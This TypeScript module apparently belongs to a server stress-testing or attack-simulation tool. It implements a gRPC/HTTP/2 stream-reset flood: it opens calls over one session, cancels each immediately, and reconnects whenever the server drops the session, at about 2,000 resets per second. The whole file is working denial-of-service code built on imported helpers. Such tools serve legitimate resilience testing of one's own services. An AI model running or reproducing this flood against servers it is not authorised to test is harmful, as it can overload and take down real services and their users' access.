// gRPC calls that are reset as soon as they are opened: 2,000 per second over one connection, which is opened again when the server closes it.
import { constants } from 'node:http2';
import { type Attack, turns } from '../attack';
import { openCall, openSession } from '../grpc-connections';

export const attack: Attack = (target, tally) => async (signal) => {
  let session = openSession(target, tally);
  for await (const _ of turns(100, signal))
    for (let i = 0; i < 20; i++) {
      const call = openCall(session, tally, target.token);
      if (call) call.close(constants.NGHTTP2_CANCEL);
      else session = openSession(target, tally);
    }
};
